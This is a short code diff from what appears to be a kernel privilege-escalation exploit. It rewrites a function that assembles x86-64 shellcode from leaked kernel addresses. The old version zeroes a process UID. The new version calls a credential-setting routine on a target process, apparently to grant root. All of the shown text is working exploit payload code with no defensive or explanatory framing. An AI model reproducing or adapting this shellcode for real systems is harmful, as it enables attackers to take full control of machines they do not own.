@@ -19,16 +19,18 @@ void payload_object(void *at, uint64_t seen_at, const struct bw_leak *leak)
 size_t payload_shellcode(void *at, const struct bw_leak *leak)
 {
 	/*
-	 * movabs rax, process_uid
-	 * mov dword [rax], 0
-	 * xor eax, eax
-	 * ret
+	 * movabs rdi, process
+	 * xor esi, esi
+	 * movabs rax, credentials_set
+	 * jmp rax
 	 */
 	uint8_t code[] = {
-		0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xc7, 0x00, 0, 0, 0, 0, 0x31, 0xc0, 0xc3,
+		0x48, 0xbf, 0, 0, 0, 0, 0, 0, 0, 0, 0x31, 0xf6,
+		0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0,
 	};
 
-	memcpy(code + 2, &leak->process_uid, sizeof(leak->process_uid));
+	memcpy(code + 2, &leak->process, sizeof(leak->process));
+	memcpy(code + 14, &leak->credentials_set, sizeof(leak->credentials_set));
 	memcpy(at, code, sizeof(code));
 	return sizeof(code);
 }
